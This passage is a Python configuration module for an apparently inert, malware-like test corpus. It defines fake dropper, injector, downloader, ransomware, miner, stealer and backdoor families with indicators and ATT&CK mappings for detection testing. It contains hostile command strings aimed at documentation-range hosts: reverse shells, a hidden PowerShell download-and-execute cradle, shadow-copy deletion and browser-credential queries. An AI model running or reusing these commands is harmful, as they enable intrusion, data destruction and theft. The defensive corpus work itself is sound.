"""The single source of truth of the spoor corpus.

Every configuration value that a malicious-like sample carries is written here once.  `gen.py headers`
turns it into the C headers under corpus/src/malicious/<family>/config_vN.h (committed, so that
corpus/build.sh needs no Python), and `gen.py expected` / `gen.py logs` turn the same values into the
ground truth under corpus/expected/ and the analysis logs under corpus/logs/.

Only documentation network ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24, 2001:db8::/32) and
names under example.com / example.net / example.org appear here; `gen.py check` enforces it.
"""

import hashlib

# The one argument that arms a program (argc must also be exactly 7 and it must be argv[6]).
MAGIC = "spoor-inert-corpus-magic:9f2c4e7a1b8d3650c2e9a7f41d6b8053e1a9c7d"
assert len(MAGIC) == 64


# --------------------------------------------------------------------------------------------------
# Wallet helpers: documentation/test-vector Bitcoin addresses, and Monero-format addresses whose keys
# are derived from a seed (valid checksum, no one holds their keys).

def _keccak256(data: bytes) -> bytes:
    rc = [0x0000000000000001, 0x0000000000008082, 0x800000000000808A, 0x8000000080008000,
          0x000000000000808B, 0x0000000080000001, 0x8000000080008081, 0x8000000000008009,
          0x000000000000008A, 0x0000000000000088, 0x0000000080008009, 0x000000008000000A,
          0x000000008000808B, 0x800000000000008B, 0x8000000000008089, 0x8000000000008003,
          0x8000000000008002, 0x8000000000000080, 0x000000000000800A, 0x800000008000000A,
          0x8000000080008081, 0x8000000000008080, 0x0000000080000001, 0x8000000080008008]
    rot = [[0, 36, 3, 41, 18], [1, 44, 10, 45, 2], [62, 6, 43, 15, 61], [28, 55, 25, 21, 56],
           [27, 20, 39, 8, 14]]
    mask = (1 << 64) - 1

    def rol(v, n):
        return ((v << n) | (v >> (64 - n))) & mask if n else v

    def f(a):
        for r in range(24):
            c = [a[x][0] ^ a[x][1] ^ a[x][2] ^ a[x][3] ^ a[x][4] for x in range(5)]
            d = [c[(x - 1) % 5] ^ rol(c[(x + 1) % 5], 1) for x in range(5)]
            a = [[a[x][y] ^ d[x] for y in range(5)] for x in range(5)]
            b = [[0] * 5 for _ in range(5)]
            for x in range(5):
                for y in range(5):
                    b[y][(2 * x + 3 * y) % 5] = rol(a[x][y], rot[x][y])
            a = [[b[x][y] ^ ((~b[(x + 1) % 5][y]) & b[(x + 2) % 5][y]) for y in range(5)]
                 for x in range(5)]
            a[0][0] ^= rc[r]
        return a

    rate = 136
    msg = bytearray(data) + b"\x01"
    while len(msg) % rate:
        msg.append(0)
    msg[-1] |= 0x80
    st = [[0] * 5 for _ in range(5)]
    for off in range(0, len(msg), rate):
        block = msg[off:off + rate]
        for i in range(rate // 8):
            x, y = i % 5, i // 5
            st[x][y] ^= int.from_bytes(block[8 * i:8 * i + 8], "little")
        st = f(st)
    out = b"".join(st[i % 5][i // 5].to_bytes(8, "little") for i in range(4))
    return out


assert _keccak256(b"").hex() == "c5d2460186f7233c927e7db2dcc703c0e500b653ca82273b7bfad8045d85a470"

_B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


def _b58_block(block: bytes, size: int) -> str:
    n = int.from_bytes(block, "big")
    s = ""
    while n:
        n, r = divmod(n, 58)
        s = _B58[r] + s
    return s.rjust(size, "1")


def monero_address(seed: str) -> str:
    """A standard Monero address (network byte 0x12) built from keys derived from `seed`."""
    body = bytes([0x12]) + hashlib.sha256(("spend:" + seed).encode()).digest() \
        + hashlib.sha256(("view:" + seed).encode()).digest()
    data = body + _keccak256(body)[:4]
    sizes = {0: 0, 1: 2, 2: 3, 3: 5, 4: 6, 5: 7, 6: 9, 7: 10, 8: 11}
    out = ""
    for i in range(0, len(data), 8):
        blk = data[i:i + 8]
        out += _b58_block(blk, sizes[len(blk)])
    assert len(out) == 95
    return out


# BIP-173 test vector, and the Bitcoin wiki's documented example addresses.
BTC_BECH32 = "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"
BTC_P2PKH = "1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2"
BTC_P2SH = "3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy"


# --------------------------------------------------------------------------------------------------
# Field constructors.

def F(key, value, t=None, wide=False, hive=None, norm=None, where="code"):
    """A configuration value emitted as `#define CFG_<key>` in the variant header.

    t      IOC type (None: not an indicator, only configuration)
    wide   emitted as L"..." (UTF-16LE in the binary)
    hive   for registry keys/values: short hive name prepended to form the normalised value
    norm   explicit normalised value (otherwise derived)
    where  "code" (the sample's own code), "payload" (inside the dropper's payload resource only)
    """
    return dict(key=key, value=value, t=t, wide=wide, hive=hive, norm=norm, where=where, macro=True)


def X(value, t, raw=None, wide=False, where="code"):
    """An indicator that is not a macro of its own: a substring of another value (a URL inside a
    command line, a registry path inside a `reg add` command)."""
    return dict(key=None, value=value, t=t, wide=wide, hive=None, norm=None, raw=raw, where=where,
                macro=False)


def T(tid, name, *evidence):
    """An ATT&CK technique with its evidence: ("import", "dll!Function"), ("string", "text"),
    ("resource", "NAME"), ("dynsym", "name") (ELF/Mach-O imported symbol)."""
    return dict(id=tid, name=name, evidence=[dict(kind=k, value=v) for k, v in evidence])


RUN_KEY = r"Software\Microsoft\Windows\CurrentVersion\Run"

# --------------------------------------------------------------------------------------------------
# Families.  Each variant: file name, format, arch, kind, config fields, techniques.

FAMILIES = {
    "ashdrop": dict(kind="dropper",
                    description="Dropper: writes the DLL carried in its RCDATA resource ADRPAYLOAD to "
                                "disk and persists it with a Run key (falls back to `reg add`); the "
                                "v3 resource is RC4-encrypted."),
    "needlepoint": dict(kind="injector",
                        description="Process injector: finds a target process by name and injects a "
                                    "DLL path or a shellcode buffer with VirtualAllocEx / "
                                    "WriteProcessMemory / CreateRemoteThread; v3 resolves every API "
                                    "through GetProcAddress strings."),
    "fetchbird": dict(kind="downloader",
                      description="Downloader: fetches a second stage over HTTP(S) with URLDownloadToFile "
                                  "(v1), WinINet (v2) or WinHTTP with UTF-16 strings (v3) and runs it."),
    "lockjaw": dict(kind="ransomware",
                    description="Ransomware-like: enumerates files, encrypts with CryptoAPI (v1, v2) or "
                                "BCrypt (v3), drops a ransom note and deletes shadow copies."),
    "coalpit": dict(kind="miner",
                    description="Miner-like: XMRig-style stratum login with a pool URL and a Monero "
                                "wallet, persisted with `schtasks /create`."),
    "magpie": dict(kind="stealer",
                   description="Stealer-like: reads browser credential stores (Chrome, Edge, Firefox), "
                               "the clipboard, decrypts with CryptUnprotectData and posts to an "
                               "exfiltration URL."),
    "shroud": dict(kind="anti-analysis",
                   description="Anti-analysis loader: debugger checks, VirtualBox/VMware/sandbox "
                               "artefacts, timing checks, then a beacon."),
    "burrow": dict(kind="linux-backdoor",
                   description="Linux ELF backdoor: reverse shell, cron (v1, v3) or systemd (v2) "
                               "persistence, /etc/ld.so.preload hijack, kernel-thread masquerade."),
    "orchard": dict(kind="macos-launchagent",
                    description="Mach-O backdoor: installs a LaunchAgent plist, strips the quarantine "
                                "attribute, checks in over HTTP(S); v3 is a universal binary."),
}


def _ashdrop():
    shared = [
        F("RUN_KEY", RUN_KEY, "registry_key", hive="HKCU"),
        F("REG_CMD", 'reg.exe add "HKCU\\' + RUN_KEY + '" /v %s /t REG_SZ /d "%s" /f', "command"),
        X("HKCU\\" + RUN_KEY, "registry_key", raw="HKCU\\" + RUN_KEY),
        F("RES_NAME", "ADRPAYLOAD", "string"),
        F("RUN_DATA_FMT", 'rundll32.exe "%s",Start', "command"),
        F("BEACON_FMT", "adrp=%s&host=%s&build=%lu", "string", where="payload"),
    ]
    variants = [
        dict(variant="v1", arch="x86_64", kind="exe", fields=[
            F("MUTEX", r"Local\ADRP-9b1e5c", "mutex"),
            F("RUN_VALUE", "OneDriveStandaloneUpdater", "registry_value", hive="HKCU",
              norm="HKCU\\" + RUN_KEY + "\\OneDriveStandaloneUpdater"),
            F("DROP_DIR", r"%LOCALAPPDATA%\Microsoft\OneDrive\Update", "file_path"),
            F("DROP_PATH", r"%LOCALAPPDATA%\Microsoft\OneDrive\Update\odsu.dll", "file_path"),
            F("VI_COMPANY", "Microsoft Corporation", None),
            F("VI_DESC", "Microsoft OneDrive Standalone Updater", None),
            F("VI_ORIG", "OneDriveStandaloneUpdater.exe", None),
            F("C2_URL", "http://cdn.ashdrop.example.com/s2/beacon.php", "url", where="payload"),
            F("USER_AGENT", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AshUpd/1.1", "user_agent",
              where="payload"),
        ]),
        dict(variant="v2", arch="x86", kind="exe", fields=[
            F("MUTEX", r"Local\ADRP-44af07", "mutex"),
            F("RUN_VALUE", "AdobeARMHelper", "registry_value", hive="HKCU",
              norm="HKCU\\" + RUN_KEY + "\\AdobeARMHelper"),
            F("DROP_DIR", r"%APPDATA%\Adobe\ARM", "file_path"),
            F("DROP_PATH", r"%APPDATA%\Adobe\ARM\armsvc.dll", "file_path"),
            F("VI_COMPANY", "Adobe Inc.", None),
            F("VI_DESC", "Adobe Reader and Acrobat Manager", None),
            F("VI_ORIG", "AdobeARM.exe", None),
            F("C2_URL", "http://198.51.100.14/s2/beacon.php", "url", where="payload"),
            F("USER_AGENT", "Mozilla/5.0 (Windows NT 6.1; WOW64) AshUpd/1.0", "user_agent",
              where="payload"),
        ]),
        dict(variant="v3", arch="x86_64", kind="exe", encrypted_payload=True, fields=[
            F("MUTEX", r"Global\ADRP-e71d22", "mutex"),
            F("RUN_VALUE", "WindowsDefenderUpdate", "registry_value", hive="HKCU",
              norm="HKCU\\" + RUN_KEY + "\\WindowsDefenderUpdate"),
            F("DROP_DIR", r"%PROGRAMDATA%\WinDefUpd", "file_path"),
            F("DROP_PATH", r"%PROGRAMDATA%\WinDefUpd\wdupd.dll", "file_path"),
            F("VI_COMPANY", "Microsoft Corporation", None),
            F("VI_DESC", "Windows Defender Update Helper", None),
            F("VI_ORIG", "wdupdhlp.exe", None),
            F("RC4_KEY", "ashdrop-v3-rc4:4f1a8d2c", "string"),
            F("C2_URL", "https://telemetry.ashdrop.example.org/s2/beacon.php", "url", where="payload"),
            F("USER_AGENT", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AshUpd/1.3", "user_agent",
              where="payload"),
        ]),
    ]
    techniques = lambda v: [
        T("T1547.001", "Boot or Logon Autostart Execution: Registry Run Keys / Startup Folder",
          ("import", "advapi32.dll!RegSetValueExA"), ("string", RUN_KEY)),
        T("T1059.003", "Command and Scripting Interpreter: Windows Command Shell",
          ("string", "reg.exe add"), ("import", "kernel32.dll!WinExec")),
        T("T1218.011", "System Binary Proxy Execution: Rundll32", ("string", 'rundll32.exe "%s",Start')),
        T("T1036.005", "Masquerading: Match Legitimate Name or Location",
          ("string", dict(v_field="RUN_VALUE"))),
        T("T1564.001", "Hide Artifacts: Hidden Files and Directories",
          ("import", "kernel32.dll!SetFileAttributesA")),
    ] + ([
        T("T1027.013", "Obfuscated Files or Information: Encrypted/Encoded File",
          ("resource", "ADRPAYLOAD"), ("string", "ashdrop-v3-rc4:4f1a8d2c")),
        T("T1140", "Deobfuscate/Decode Files or Information", ("string", "ashdrop-v3-rc4:4f1a8d2c")),
    ] if v.get("encrypted_payload") else [
        T("T1027.009", "Obfuscated Files or Information: Embedded Payloads", ("resource", "ADRPAYLOAD")),
    ])
    return shared, variants, techniques


def _needlepoint():
    shared = [
        F("PRIV", "SeDebugPrivilege", None),
        F("LOG_FMT", "np: %lu <- %s (%lu bytes)", "string"),
        F("LOADLIB", "LoadLibraryA", None),
    ]
    variants = [
        dict(variant="v1", arch="x86_64", kind="exe", fields=[
            F("TARGET", "explorer.exe", None),
            F("INJECT_DLL", r"C:\ProgramData\NeedlePoint\npcore.dll", "file_path"),
            F("MUTEX", r"Global\{6B1F0E92-3D4A-4C7B-9E21-5A8D3C0F7B14}", "mutex"),
            F("PIPE", r"\\.\pipe\np_ctrl_v1", "pipe"),
        ]),
        dict(variant="v2", arch="x86", kind="exe", fields=[
            F("TARGET", "svchost.exe", None),
            F("INJECT_DLL", r"%TEMP%\nps32.dll", "file_path"),
            F("MUTEX", r"Global\{A43C5E10-77B2-4F0D-8C6E-2D91B0E4F5A7}", "mutex"),
            F("PIPE", r"\\.\pipe\msagent_5c1", "pipe"),
        ]),
        dict(variant="v3", arch="x86_64", kind="dll", dynamic_api=True, fields=[
            F("TARGET", "RuntimeBroker.exe", None),
            F("INJECT_DLL", r"C:\Users\Public\Libraries\npbroker.dll", "file_path"),
            F("MUTEX", r"Local\{0D5E8F21-9B3C-4A6D-B7E1-F2C4A9D0E3B8}", "mutex"),
            F("PIPE", r"\\.\pipe\rpc_np_e2b8", "pipe"),
            F("API_K32", "kernel32.dll", None),
            F("API_VAE", "VirtualAllocEx", None),
            F("API_WPM", "WriteProcessMemory", None),
            F("API_CRT", "CreateRemoteThread", None),
            F("API_OP", "OpenProcess", None),
            F("API_SNAP", "CreateToolhelp32Snapshot", None),
            F("API_P32F", "Process32First", None),
            F("API_P32N", "Process32Next", None),
        ]),
    ]

    def techniques(v):
        if v.get("dynamic_api"):
            ev = [("string", "VirtualAllocEx"), ("string", "WriteProcessMemory"),
                  ("string", "CreateRemoteThread")]
            disc = [("string", "CreateToolhelp32Snapshot"), ("string", "Process32First")]
        else:
            ev = [("import", "kernel32.dll!VirtualAllocEx"), ("import", "kernel32.dll!WriteProcessMemory"),
                  ("import", "kernel32.dll!CreateRemoteThread")]
            disc = [("import", "kernel32.dll!CreateToolhelp32Snapshot"),
                    ("import", "kernel32.dll!Process32First")]
        out = [
            T("T1055.001", "Process Injection: Dynamic-link Library Injection", *ev,
              ("string", "LoadLibraryA")),
            T("T1055", "Process Injection", *ev),
            T("T1057", "Process Discovery", *disc),
            T("T1134", "Access Token Manipulation", ("import", "advapi32.dll!AdjustTokenPrivileges"),
              ("string", "SeDebugPrivilege")),
        ]
        if v.get("dynamic_api"):
            out.append(T("T1027.007", "Obfuscated Files or Information: Dynamic API Resolution",
                          ("import", "kernel32.dll!GetProcAddress"), ("string", "VirtualAllocEx")))
        return out
    return shared, variants, techniques


def _fetchbird():
    shared = [
        F("COOKIE_FMT", "fb_session=%08lX", "string"),
        F("HDR_ID", "X-FB-Id", "string"),
    ]
    ps_url = "http://files.fetchbird.example.net/ps/stage.ps1"
    variants = [
        dict(variant="v1", arch="x86_64", kind="exe", api="urlmon", fields=[
            F("URL1", "http://files.fetchbird.example.net/update/kb5012170.exe", "url"),
            F("URL2", "http://198.51.100.23:8080/dl/kb5012170.exe", "url"),
            F("SAVE_PATH", r"%TEMP%\kb5012170.exe", "file_path"),
            F("MUTEX", "fbird_mtx_v1", "mutex"),
            F("PS_CMD", "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient)"
                        ".DownloadString('" + ps_url + "')\"", "command"),
            X(ps_url, "url"),
        ]),
        dict(variant="v2", arch="x86", kind="exe", api="wininet", fields=[
            F("URL1", "http://cdn.fetchbird.example.com/img/logo.gif", "url"),
            F("URL2", "http://203.0.113.77/img/logo.gif", "url"),
            F("USER_AGENT", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)",
              "user_agent"),
            F("SAVE_PATH", r"%APPDATA%\Microsoft\Crypto\wincrypt.exe", "file_path"),
            F("MUTEX", "fbird_mtx_v2", "mutex"),
        ]),
        dict(variant="v3", arch="x86_64", kind="dll", api="winhttp", fields=[
            F("URL1", "https://dl.fetchbird.example.org/v3/payload.bin", "url", wide=True),
            F("HOST1", "dl.fetchbird.example.org", None, wide=True),
            F("PATH1", "/v3/payload.bin", None, wide=True),
            F("HOST2", "2001:db8:fe7c::17", None, wide=True),
            F("URL2", "https://[2001:db8:fe7c::17]/v3/payload.bin", "url", wide=True),
            F("USER_AGENT", "FetchBird/3.0 (WinHTTP)", "user_agent", wide=True),
            F("SAVE_PATH", r"%PROGRAMDATA%\FetchBird\update.bin", "file_path", wide=True),
            F("MUTEX", r"Global\fbird-v3-2c9e", "mutex", wide=True),
        ]),
    ]

    def techniques(v):
        imp = {"urlmon": ("import", "urlmon.dll!URLDownloadToFileA"),
               "wininet": ("import", "wininet.dll!InternetReadFile"),
               "winhttp": ("import", "winhttp.dll!WinHttpReadData")}[v["api"]]
        out = [
            T("T1105", "Ingress Tool Transfer", imp, ("string", dict(v_field="URL1"))),
            T("T1071.001", "Application Layer Protocol: Web Protocols", imp),
            T("T1204.002", "User Execution: Malicious File", ("import", "shell32.dll!ShellExecuteA"))
            if v["api"] != "winhttp" else
            T("T1106", "Native API", ("import", "kernel32.dll!CreateProcessW")),
        ]
        if v["variant"] == "v1":
            out.append(T("T1059.001", "Command and Scripting Interpreter: PowerShell",
                          ("string", "powershell.exe -nop -w hidden")))
        return out
    return shared, variants, techniques


def _lockjaw():
    shared = [
        F("NOTE_HEAD", "YOUR FILES HAVE BEEN ENCRYPTED BY LOCKJAW", "string"),
        F("VSS_CMD", "cmd.exe /c vssadmin.exe delete shadows /all /quiet", "command"),
        F("BCD_CMD", "cmd.exe /c bcdedit.exe /set {default} recoveryenabled no", "command"),
        F("WBADMIN_CMD", "cmd.exe /c wbadmin.exe delete catalog -quiet", "command"),
        F("SKIP_DIRS", "Windows|Program Files|ProgramData|$Recycle.Bin", "string"),
    ]
    variants = [
        dict(variant="v1", arch="x86_64", kind="exe", crypto="capi", fields=[
            F("EXT", ".ljaw", "string"),
            F("NOTE_NAME", "README_LOCKJAW.txt", "file_name"),
            F("EMAIL", "restore@lockjaw.example.net", "email"),
            F("PAY_URL", "http://pay.lockjaw.example.com/portal", "url"),
            F("WALLET", BTC_BECH32, "wallet"),
            F("MUTEX", r"Global\LJ-7d0c2e41", "mutex"),
        ]),
        dict(variant="v2", arch="x86", kind="exe", crypto="capi", fields=[
            F("EXT", ".ljw2", "string"),
            F("NOTE_NAME", "HOW_TO_RESTORE_FILES.txt", "file_name"),
            F("EMAIL", "decrypt@lockjaw.example.org", "email"),
            F("PAY_URL", "http://192.0.2.201/portal", "url"),
            F("WALLET", BTC_P2PKH, "wallet"),
            F("MUTEX", r"Global\LJ-1f93ab07", "mutex"),
        ]),
        dict(variant="v3", arch="x86_64", kind="exe", crypto="bcrypt", fields=[
            F("EXT", ".locked3", "string", wide=True),
            F("NOTE_NAME", "!!!RESTORE_LOCKJAW!!!.txt", "file_name", wide=True),
            F("EMAIL", "support@lockjaw.example.com", "email"),
            F("PAY_URL", "https://lockjaw.example.net/pay", "url"),
            F("WALLET", BTC_P2SH, "wallet"),
            F("MUTEX", r"Global\LJ-c4e85d90", "mutex", wide=True),
        ]),
    ]

    def techniques(v):
        enc = ("import", "advapi32.dll!CryptEncrypt") if v["crypto"] == "capi" else \
            ("import", "bcrypt.dll!BCryptEncrypt")
        find = ("import", "kernel32.dll!FindFirstFileA") if v["crypto"] == "capi" else \
            ("import", "kernel32.dll!FindFirstFileW")
        return [
            T("T1486", "Data Encrypted for Impact", enc, ("string", "YOUR FILES HAVE BEEN ENCRYPTED")),
            T("T1490", "Inhibit System Recovery", ("string", "vssadmin.exe delete shadows /all /quiet"),
              ("string", "bcdedit.exe /set {default} recoveryenabled no")),
            T("T1083", "File and Directory Discovery", find),
            T("T1059.003", "Command and Scripting Interpreter: Windows Command Shell",
              ("string", "cmd.exe /c")),
        ]
    return shared, variants, techniques


def _coalpit():
    shared = [
        F("LOGIN_FMT", '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"%s","pass":"%s",'
                       '"agent":"coalpit/%s"}}', "string"),
        F("SCHTASKS_FMT", 'schtasks.exe /create /f /sc onlogon /rl highest /tn "%s" /tr "%s"', "command"),
        F("CPU_ARGS", "--donate-level=1 --cpu-max-threads-hint=50 --background", "string"),
        F("RIVAL_KEY", r"Software\XMRig", "registry_key", wide=True, hive="HKCU"),
        F("RIVAL_NEW", "XMRig.disabled", None, wide=True),
    ]
    variants = [
        dict(variant="v1", arch="x86_64", kind="exe", fields=[
            F("POOL", "stratum+tcp://pool.coalpit.example.com:3333", "url"),
            F("WALLET", monero_address("coalpit-v1"), "wallet"),
            F("WORKER", "rig-a1", None),
            F("TASK", r"\Microsoft\Windows\Maintenance\CoalSvc", "task_name"),
            F("INSTALL", r"%APPDATA%\CoalSvc\coalsvc.exe", "file_path"),
            F("MUTEX", "coalpit-single-v1", "mutex"),
        ]),
        dict(variant="v2", arch="x86", kind="exe", fields=[
            F("POOL", "stratum+tcp://203.0.113.45:4444", "url"),
            F("WALLET", monero_address("coalpit-v2"), "wallet"),
            F("WORKER", "x86-b7", None),
            F("TASK", "WindowsUpdateCheck", "task_name"),
            F("INSTALL", r"%LOCALAPPDATA%\Temp\wuc.exe", "file_path"),
            F("MUTEX", "coalpit-single-v2", "mutex"),
        ]),
        dict(variant="v3", arch="x86_64", kind="dll", fields=[
            F("POOL", "stratum+ssl://xmr.coalpit.example.org:443", "url"),
            F("WALLET", monero_address("coalpit-v3"), "wallet"),
            F("WORKER", "dll-c3", None),
            F("TASK", r"\Microsoft\Windows\Defrag\DefragHelper", "task_name"),
            F("INSTALL", r"C:\ProgramData\DefragHelper\dfh.dll", "file_path"),
            F("MUTEX", "coalpit-single-v3", "mutex"),
        ]),
    ]
    techniques = lambda v: [
        T("T1496", "Resource Hijacking", ("string", "stratum+"), ("string", dict(v_field="WALLET"))),
        T("T1053.005", "Scheduled Task/Job: Scheduled Task", ("string", "schtasks.exe /create")),
        T("T1095", "Non-Application Layer Protocol", ("import", "ws2_32.dll!connect")),
    ]
    return shared, variants, techniques


def _magpie():
    shared = [
        F("CHROME", r"\Google\Chrome\User Data\Default\Login Data", "file_path"),
        F("EDGE", r"\Microsoft\Edge\User Data\Default\Login Data", "file_path"),
        F("LOCAL_STATE", r"\Google\Chrome\User Data\Local State", "file_path"),
        F("FIREFOX", r"\Mozilla\Firefox\Profiles", "file_path"),
        F("FF_LOGINS", "logins.json", None),
        F("FF_KEYS", "key4.db", None),
        F("SQL", "SELECT origin_url, username_value, password_value FROM logins", "string"),
        F("BOUNDARY", "----MagpieBoundary%08lx", "string"),
        F("LD_COPY", r"%TEMP%\ld_%08lx.db", "file_path"),
    ]
    variants = [
        dict(variant="v1", arch="x86_64", kind="exe", fields=[
            F("EXFIL", "http://collect.magpie.example.net/upload.php", "url"),
            F("EXFIL_HOST", "collect.magpie.example.net", None),
            F("EXFIL_PATH", "/upload.php", None),
            F("STAGE", r"%TEMP%\mpdata.tmp", "file_path"),
            F("MUTEX", "MagpieMutex_v1", "mutex"),
        ]),
        dict(variant="v2", arch="x86", kind="exe", fields=[
            F("EXFIL", "http://192.0.2.77/gate/submit.php", "url"),
            F("EXFIL_HOST", "192.0.2.77", None),
            F("EXFIL_PATH", "/gate/submit.php", None),
            F("STAGE", r"%TEMP%\~mp4729.tmp", "file_path"),
            F("MUTEX", "MagpieMutex_v2", "mutex"),
        ]),
        dict(variant="v3", arch="x86", kind="dll", fields=[
            F("EXFIL", "https://api.magpie.example.org/v2/collect", "url"),
            F("EXFIL_HOST", "api.magpie.example.org", None),
            F("EXFIL_PATH", "/v2/collect", None),
            F("STAGE", r"%LOCALAPPDATA%\Temp\mpcache.dat", "file_path"),
            F("MUTEX", "MagpieMutex_v3", "mutex"),
            F("EXFIL_MAIL", "drop@magpie.example.com", "email"),
        ]),
    ]
    techniques = lambda v: [
        T("T1555.003", "Credentials from Password Stores: Credentials from Web Browsers",
          ("string", "Login Data"), ("import", "crypt32.dll!CryptUnprotectData")),
        T("T1115", "Clipboard Data", ("import", "user32.dll!GetClipboardData")),
        T("T1041", "Exfiltration Over C2 Channel", ("import", "wininet.dll!HttpSendRequestA"),
          ("string", dict(v_field="EXFIL"))),
        T("T1005", "Data from Local System", ("import", "kernel32.dll!ReadFile")),
    ]
    return shared, variants, techniques


def _shroud():
    shared = [
        F("VBOX_SVC", "VBoxService.exe", "string"),
        F("VBOX_TRAY", "VBoxTray.exe", "string"),
        F("VMTOOLS", "vmtoolsd.exe", "string"),
        F("VBOX_KEY", r"HARDWARE\ACPI\DSDT\VBOX__", "registry_key", hive="HKLM"),
        F("VMW_KEY", r"SOFTWARE\VMware, Inc.\VMware Tools", "registry_key", hive="HKLM"),
        F("VBOX_DEV", r"\\.\VBoxMiniRdrDN", "string"),
        F("SANDBOXIE", "SbieDll.dll", "string"),
        F("CPUID_VMW", "VMwareVMware", "string"),
        F("WINE", "wine_get_unix_file_name", "string"),
        F("NTDLL", "ntdll.dll", None),
        F("NTQIP", "NtQueryInformationProcess", None),
        F("DBG_TOOLS", "x64dbg.exe|ollydbg.exe|ProcessHacker.exe|Wireshark.exe|procmon.exe", "string"),
    ]
    variants = [
        dict(variant="v1", arch="x86_64", kind="exe", fields=[
            F("C2", "http://beacon.shroud.example.com/c", "url"),
            F("MUTEX", "shroud-7a1", "mutex"),
            F("SLEEP_MS", "30000", None),
        ]),
        dict(variant="v2", arch="x86", kind="exe", fields=[
            F("C2", "http://203.0.113.9/c", "url"),
            F("MUTEX", "shroud-2be", "mutex"),
            F("SLEEP_MS", "45000", None),
        ]),
        dict(variant="v3", arch="x86_64", kind="dll", fields=[
            F("C2", "https://shroud.example.org/c", "url"),
            F("MUTEX", "shroud-d40", "mutex"),
            F("SLEEP_MS", "60000", None),
        ]),
    ]
    techniques = lambda v: [
        T("T1622", "Debugger Evasion", ("import", "kernel32.dll!IsDebuggerPresent"),
          ("import", "kernel32.dll!CheckRemoteDebuggerPresent"), ("string", "NtQueryInformationProcess")),
        T("T1497.001", "Virtualization/Sandbox Evasion: System Checks", ("string", "VBoxService.exe"),
          ("string", "VMwareVMware"), ("string", r"HARDWARE\ACPI\DSDT\VBOX__")),
        T("T1497.003", "Virtualization/Sandbox Evasion: Time Based Evasion",
          ("import", "kernel32.dll!QueryPerformanceCounter"), ("import", "kernel32.dll!GetTickCount")),
        T("T1082", "System Information Discovery", ("import", "kernel32.dll!GetSystemInfo")),
        T("T1071.001", "Application Layer Protocol: Web Protocols", ("string", dict(v_field="C2"))),
    ]
    return shared, variants, techniques


def _burrow():
    shared = [
        F("REV_FMT", "bash -i >& /dev/tcp/%s/%s 0>&1", "command"),
        F("PRELOAD", "/etc/ld.so.preload", "file_path"),
        F("HIST", "HISTFILE=/dev/null", "string"),
        F("SH", "/bin/sh", None),
        F("KWORKER", "[kworker/0:1-events]", "string"),
        F("BANNER", "burrow ready %s", "string"),
    ]
    variants = [
        dict(variant="v1", arch="x86_64", kind="exe", persist="cron", fields=[
            F("C2_HOST", "198.51.100.9", "ipv4"),
            F("C2_PORT", "4444", None),
            F("REVSHELL", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1", "command"),
            F("CRON_FILE", "/etc/cron.d/burrow", "file_path"),
            F("CRON_LINE", "* * * * * root /usr/lib/.burrow/burrowd >/dev/null 2>&1", "command"),
            F("INSTALL", "/usr/lib/.burrow/burrowd", "file_path"),
            F("HOOK_LIB", "/usr/lib/.burrow/libburrow.so", "file_path"),
        ]),
        dict(variant="v2", arch="aarch64", kind="exe", persist="systemd", fields=[
            F("C2_HOST", "burrow.example.net", "domain"),
            F("C2_PORT", "8443", None),
            F("REVSHELL", "bash -i >& /dev/tcp/burrow.example.net/8443 0>&1", "command"),
            F("UNIT_FILE", "/etc/systemd/system/burrow-update.service", "file_path"),
            F("UNIT_TEXT", "[Unit]\nDescription=Burrow Update Service\nAfter=network.target\n\n"
                           "[Service]\nExecStart=/var/tmp/.burrow/burrowd\nRestart=always\n\n"
                           "[Install]\nWantedBy=multi-user.target\n", None),
            F("ENABLE_CMD", "systemctl enable --now burrow-update.service", "command"),
            F("INSTALL", "/var/tmp/.burrow/burrowd", "file_path"),
            F("HOOK_LIB", "/var/tmp/.burrow/libburrow.so", "file_path"),
        ]),
        dict(variant="v3", arch="x86_64", kind="so", persist="cron", fields=[
            F("C2_HOST", "203.0.113.66", "ipv4"),
            F("C2_PORT", "53", None),
            F("REVSHELL", "bash -i >& /dev/tcp/203.0.113.66/53 0>&1", "command"),
            F("CRON_FILE", "/var/spool/cron/crontabs/root", "file_path"),
            F("CRON_LINE", "@reboot /lib/x86_64-linux-gnu/.burrowd", "command"),
            F("INSTALL", "/lib/x86_64-linux-gnu/.burrowd", "file_path"),
            F("HOOK_LIB", "/lib/x86_64-linux-gnu/libburrowhook.so", "file_path"),
        ]),
    ]

    def techniques(v):
        out = [
            T("T1059.004", "Command and Scripting Interpreter: Unix Shell", ("string", "bash -i >& /dev/tcp/"),
              ("dynsym", "execl")),
            T("T1574.006", "Hijack Execution Flow: Dynamic Linker Hijacking",
              ("string", "/etc/ld.so.preload")),
            T("T1036.005", "Masquerading: Match Legitimate Name or Location",
              ("string", "[kworker/0:1-events]"), ("dynsym", "prctl")),
            T("T1562.003", "Impair Defenses: Impair Command History Logging",
              ("string", "HISTFILE=/dev/null")),
        ]
        if v["persist"] == "cron":
            out.append(T("T1053.003", "Scheduled Task/Job: Cron", ("string", dict(v_field="CRON_FILE"))))
        else:
            out.append(T("T1543.002", "Create or Modify System Process: Systemd Service",
                         ("string", "/etc/systemd/system/burrow-update.service")))
        return out
    return shared, variants, techniques


def _orchard():
    shared = [
        F("PLIST_FMT", '<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0">\n<dict>\n'
                       "  <key>Label</key><string>%s</string>\n"
                       "  <key>ProgramArguments</key><array><string>%s</string></array>\n"
                       "  <key>RunAtLoad</key><true/>\n  <key>KeepAlive</key><true/>\n</dict>\n</plist>\n",
          None),
        F("LAUNCHCTL", "launchctl load -w %s", "command"),
        F("XATTR", "xattr -d com.apple.quarantine %s", "command"),
        F("CURL", "/usr/bin/curl -fsSL -A orchard/%s -o %s %s", "command"),
        F("UA_VER", "2.4", None),
    ]
    variants = [
        dict(variant="v1", arch="x86_64", kind="exe", fields=[
            F("LABEL", "com.example.orchard.agent", "string"),
            F("PLIST_REL", "Library/LaunchAgents/com.example.orchard.agent.plist", "file_path",
